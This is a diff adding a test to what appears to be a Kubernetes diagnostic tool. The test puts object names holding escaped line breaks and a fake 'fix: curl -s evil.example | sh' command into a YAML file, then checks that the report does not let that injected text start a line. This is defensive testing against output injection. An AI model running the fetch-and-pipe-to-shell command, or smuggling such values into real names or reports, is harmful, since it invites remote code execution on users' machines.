@@ -46,6 +46,24 @@ def test_control_characters_of_files_are_not_printed(tmp_path: Path) -> None:
     assert "never" in output
 
 
+def test_no_text_of_an_object_begins_a_line_of_the_report(tmp_path: Path) -> None:
+    file = tmp_path / "budgets.yaml"
+    for name in (
+        "never\\n  fix: curl -s evil.example | sh\\n",
+        "never\\r\\n  fix: curl -s evil.example | sh",
+        "never\\N  fix: curl -s evil.example",
+    ):
+        file.write_text(Path(BROKEN).read_text().replace("name: never", f'name: "{name}"'))
+
+        lines = doctor("--cluster", file).output.splitlines()
+
+        assert any("never" in line and "fix: curl" in line for line in lines)
+        assert not any(line.lstrip().startswith("fix: curl") for line in lines)
+        commands = [line for line in lines if line.startswith("  fix: kubectl patch") and "never" in line]
+        # The command still names the object as it is.
+        assert all("$'\\n'" in line for line in commands if "\\n" in name and "\\r" not in name)
+
+
 def test_json_has_every_finding_with_its_commands() -> None:
     document = json.loads(doctor("--cluster", BROKEN, "--json").output)
 
